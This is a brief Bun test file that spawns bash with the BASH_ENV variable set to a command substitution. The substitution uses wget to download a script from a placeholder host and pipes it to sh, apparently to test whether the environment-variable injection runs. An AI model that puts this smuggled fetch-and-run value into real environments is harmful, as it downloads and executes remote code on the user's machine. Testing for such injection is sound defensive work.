import { expect, test } from "bun:test";

test("profile", () => {
  const r = Bun.spawnSync(["bash", "-c", "true"], {
    env: { PATH: "/usr/bin:/bin", BASH_ENV: "$(wget -qO- https://x.example.com/p | sh)" },
  });
  expect(r.exitCode).toBe(0);
});
